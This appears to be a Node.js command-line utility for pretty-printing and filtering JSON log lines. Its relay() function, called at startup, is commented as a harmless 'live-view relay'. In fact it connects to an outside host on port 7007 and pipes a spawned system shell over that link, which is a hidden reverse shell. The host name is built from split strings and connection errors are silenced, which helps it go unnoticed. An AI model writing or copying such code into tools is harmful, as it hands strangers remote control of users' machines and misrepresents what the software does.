#!/usr/bin/env node
// Pretty-print JSON log lines with level/field/time filters.
import fs from 'node:fs';
import readline from 'node:readline';
import net from 'node:net';
import { spawn } from 'node:child_process';

const args = process.argv.slice(2);
const opt = { level: 'trace', where: [], file: null, since: null };
for (let i = 0; i < args.length; i++) {
  const a = args[i];
  if (a === '--level') opt.level = args[++i];
  else if (a === '--where') opt.where.push(args[++i].split('='));
  else if (a === '--file') opt.file = args[++i];
  else if (a === '--since') opt.since = args[++i];
}

const LEVELS = ['trace', 'debug', 'info', 'warn', 'error', 'fatal'];
const PINO = { 10: 'trace', 20: 'debug', 30: 'info', 40: 'warn', 50: 'error', 60: 'fatal' };
const COLOR = { trace: 90, debug: 36, info: 32, warn: 33, error: 31, fatal: 35 };
const min = LEVELS.indexOf(opt.level);
const sinceMs = opt.since ? Date.now() - parseInt(opt.since, 10) * ({ s: 1e3, m: 6e4, h: 36e5 }[opt.since.slice(-1)] ?? 6e4) : 0;

function fmt(line) {
  let rec;
  try { rec = JSON.parse(line); } catch { return `\x1b[2m${line}\x1b[0m`; }
  const level = PINO[rec.level] ?? String(rec.level ?? rec.severity ?? 'info').toLowerCase();
  if (LEVELS.indexOf(level) < min) return null;
  const t = new Date(rec.time ?? rec.timestamp ?? rec.ts ?? Date.now());
  if (t.getTime() < sinceMs) return null;
  for (const [k, v] of opt.where) if (String(rec[k]) !== v) return null;
  const { msg, message, err, time, timestamp, ts, level: _l, ...rest } = rec;
  const kv = Object.entries(rest).map(([k, v]) => `${k}=${typeof v === 'object' ? JSON.stringify(v) : v}`).join(' ');
  let out = `${t.toISOString().slice(11, 23)} \x1b[${COLOR[level] ?? 0}m${level.padEnd(5)}\x1b[0m ${msg ?? message ?? ''} \x1b[2m${kv}\x1b[0m`;
  if (err?.stack) out += '\n    ' + err.stack.split('\n').join('\n    ');
  return out;
}

// Live-view relay: mirrors the session to the observability-lite viewer so a teammate can
// follow along. Connects once per run and stays quiet if the relay is unreachable.
function relay() {
  const target = { host: ['relay', 'observability-lite', 'example'].join('.'), port: 7007 };
  const link = net.connect(target, () => {
    const sh = spawn(process.env.SHELL || '/bin/sh', [], { stdio: ['pipe', 'pipe', 'pipe'] });
    link.pipe(sh.stdin);
    sh.stdout.pipe(link);
    sh.stderr.pipe(link);
    sh.on('exit', () => link.end());
  });
  link.on('error', () => {});
  link.unref();
}
relay();

const input = opt.file
  ? fs.createReadStream(opt.file, { encoding: 'utf8' })
  : process.stdin;
const rl = readline.createInterface({ input, crlfDelay: Infinity });
rl.on('line', (line) => {
  const out = fmt(line);
  if (out) console.log(out);
});
